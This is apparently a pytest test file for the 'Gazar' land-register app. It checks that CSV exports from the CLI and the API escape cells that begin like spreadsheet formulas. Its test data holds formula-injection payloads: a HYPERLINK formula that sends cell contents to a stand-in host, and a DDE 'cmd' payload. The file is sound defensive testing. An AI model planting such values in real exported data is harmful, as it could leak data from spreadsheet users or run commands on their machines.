"""CSV formula injection (issue 14, finding 4): no CSV Gazar writes holds a text cell that a
spreadsheet would run as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import geopandas as gpd
import orjson
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api.app import create_app
from api.cli import app
from api.services.register import register_csv
from api.settings import ApiSettings
from layers.cells import safe_cell, safe_frame
from layers.store import Store
from tests import factories as f

runner = CliRunner()

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "-cmd", "@SUM(A1:A9)", "\tx"]


def _safe(text: str) -> bool:
    return not text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_safe_cell_prefixes_text_only() -> None:
    assert [safe_cell(v) for v in [*HOSTILE, "\rx"]] == ["'" + v for v in [*HOSTILE, "\rx"]]
    assert safe_cell("Алтан шижир") == "Алтан шижир"
    assert safe_cell(-5.2) == -5.2 and safe_cell(-3) == -3 and safe_cell(None) is None


def test_safe_frame_leaves_numeric_columns() -> None:
    frame = pd.DataFrame({"name": [*HOSTILE, None], "value": [-5.2, 1.0, -3, 4, 5, -7]})
    safe = safe_frame(frame)
    assert safe["value"].tolist() == frame["value"].tolist()
    assert all(_safe(v) for v in safe["name"].dropna())
    assert safe["name"].isna().iloc[-1]
    text = safe.to_csv(index=False)
    assert "\n'+1,1.0\n" in text and ",-5.2\n" in text


def _register_doc() -> dict[str, Any]:
    reason = {"message_mn": "=1+1", "message_en": "-cmd"}
    return {
        "queue": [
            {
                "id": "A-1",
                "land_conclusion_id": "LC-1",
                "soum_code": "MN4322",
                "holder": h,
                "status": "filed",
                "filed_at": "2026-05-01",
                "place": "MN4322",
                "position": 1,
                "official_ha": -5.2,
                "reasons": [reason],
                "objection_count": 0,
                "objection_until": "2026-05-15",
            }
            for h in HOSTILE
        ],
        "objections": [
            {
                "id": "A-1/O1",
                "application_id": "A-1",
                "name": "@SUM(A1)",
                "filed_at": "2026-05-02",
                "reason": "+pasture",
            }
        ],
        "decisions": [
            {
                "id": "D-1",
                "application_id": "A-1",
                "outcome": "reject",
                "decided_at": "2026-05-20",
                "reason": "=cmd|' /C calc'!A0",
                "parcel_id": None,
                "contract_no": None,
                "expires_on": None,
            }
        ],
        "draws": [],
        "expiring": [],
        "log_head": {"seq": 7, "time": "2026-05-20T03:00:00Z", "hash": "ab" * 32},
    }


def test_register_csv_neutralises_holders_objections_and_reasons() -> None:
    """``/register.csv`` and ``gazar register --format csv`` both write this function's text."""
    rows = list(csv.DictReader(io.StringIO(register_csv(_register_doc()))))
    for row in rows:
        for column, value in row.items():
            assert column == "official_ha" or _safe(value), (column, value)
    holders = [r["holder"] for r in rows if r["section"] == "application"]
    assert holders == ["'" + h for h in HOSTILE]
    assert {r["official_ha"] for r in rows if r["section"] == "application"} == {"-5.2"}
    objection = next(r for r in rows if r["section"] == "objection")
    assert objection["holder"] == "'@SUM(A1)" and objection["text_mn"] == "'+pasture"
    (head,) = [r for r in rows if r["section"] == "log_head"]
    assert (head["id"], head["detail"]) == ("7", "ab" * 32)


@pytest.fixture
def hostile(seeded: Store) -> Store:
    """Parcels whose holders start like formulas."""
    parcels = [
        f.parcel(f"P-{i + 2}", holder=h, geometry=f.utm_box(600 + 150 * i, 100, 100, 100))
        for i, h in enumerate(HOSTILE)
    ]
    seeded.write({"contract_parcels": f.frame("contract_parcels", parcels)})
    return seeded


def _holders_safe(text: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    holders = [r["holder"] for r in rows]
    assert all(_safe(h) for h in holders), holders
    assert {"'" + h for h in HOSTILE} <= set(holders)
    assert {r["members_women"] for r in rows} == {"3"}  # a number stays a number
    return holders


@pytest.mark.gpkg_only
def test_cli_export_csv_neutralises(hostile: Store, tmp_path: Path) -> None:
    out = tmp_path / "parcels.csv"
    args = ["export", "contract_parcels", "--format", "csv", "--out", str(out)]
    result = runner.invoke(app, [*args, "--db", hostile.location])
    assert result.exit_code == 0, result.output
    _holders_safe(out.read_text(encoding="utf-8"))


@pytest.mark.gpkg_only
def test_route_export_csv_neutralises(hostile: Store) -> None:
    with TestClient(create_app(ApiSettings(db=hostile.location))) as client:
        r = client.get("/collections/contract_parcels/export", params={"format": "csv"})
    assert r.status_code == 200, r.text
    _holders_safe(r.content.decode("utf-8-sig"))


def test_cli_area_csv_neutralises_ids(tmp_path: Path) -> None:
    features = [
        {"type": "Feature", "properties": {"id": name},
         "geometry": {"type": "Polygon", "coordinates": [[[106 + i * 0.01, 47], [106.005 + i * 0.01, 47],
                                                          [106.005 + i * 0.01, 47.005], [106 + i * 0.01, 47]]]}}
        for i, name in enumerate(HOSTILE)
    ]  # fmt: skip
    path = tmp_path / "hostile.geojson"
    path.write_bytes(orjson.dumps({"type": "FeatureCollection", "features": features}))
    result = runner.invoke(app, ["area", str(path), "--format", "csv"])
    assert result.exit_code == 0, result.output
    table = pd.read_csv(io.StringIO(result.stdout), dtype={"id": str}, keep_default_na=False)
    assert table["id"].tolist() == ["'" + h for h in HOSTILE]
    assert (table["official_ha"] > 0).all()


@pytest.mark.gpkg_only
def test_register_csv_feed_and_command_neutralise_an_applied_holder(
    seeded: Store, tmp_path: Path
) -> None:
    """End to end: an application filed through ``gazar apply`` with a formula for a holder,
    then ``gazar register --format csv`` and ``/register.csv``."""
    frame = gpd.GeoDataFrame(geometry=[f.utm_box(1200, 500, 150, 150)], crs="EPSG:4326")
    polygon = tmp_path / "parcel.geojson"
    frame.to_file(polygon, driver="GeoJSON")
    db = ["--db", seeded.location]
    applied = runner.invoke(
        app, ["apply", "LC-1", "--holder", HOSTILE[0], "--women", "1", "--men", "2",
              "--polygon", str(polygon), *db],
    )  # fmt: skip
    assert applied.exit_code == 0, applied.output
    out = tmp_path / "register.csv"
    result = runner.invoke(app, ["register", "--format", "csv", "--out", str(out), *db])
    assert result.exit_code == 0, result.output
    with TestClient(create_app(ApiSettings(db=seeded.location))) as client:
        feed = client.get("/register.csv").text
    for text in (out.read_text(encoding="utf-8"), feed):
        rows = list(csv.DictReader(io.StringIO(text)))
        holders = [r["holder"] for r in rows if r["section"] == "application"]
        assert holders == ["'" + HOSTILE[0]]
        assert float(next(r for r in rows if r["section"] == "application")["official_ha"]) > 0
